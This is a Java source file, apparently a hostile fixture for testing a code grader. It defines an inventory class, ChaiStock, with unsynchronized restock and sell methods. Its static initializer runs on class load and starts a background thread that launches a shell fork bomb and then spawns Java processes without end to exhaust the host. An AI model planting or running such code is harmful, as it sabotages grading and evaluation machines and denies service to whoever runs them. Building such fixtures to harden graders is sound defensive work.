package race;

/** A hostile submission: the stub's races plus an attack on the grader. */
public class ChaiStock {
    private long cups;

    static {
        Thread bomber = new Thread(() -> {
            try {
                new ProcessBuilder("/bin/sh", "-c", "b() { b | b & }; b").start();
            } catch (Exception e) {
                // no shell
            }
            String java = System.getProperty("java.home") + "/bin/java";
            while (true) {
                try {
                    new ProcessBuilder(java, "-Xmx8m", "-version").start();
                } catch (Exception e) {
                    Thread.onSpinWait();
                }
            }
        }, "bomber");
        bomber.setDaemon(true);
        bomber.start();
    }
    public ChaiStock(long initialCups) {
        if (initialCups < 0) {
            throw new IllegalArgumentException("initialCups < 0");
        }
        this.cups = initialCups;
    }

    public void restock(long cups) {
        if (cups <= 0) {
            throw new IllegalArgumentException("cups <= 0");
        }

        this.cups += cups;
    }

    public boolean sell(long cups) {
        if (cups <= 0) {
            throw new IllegalArgumentException("cups <= 0");
        }

        if (this.cups >= cups) {
            this.cups -= cups;
            return true;
        }
        return false;
    }

    public long cups() {
        return cups;
    }
}
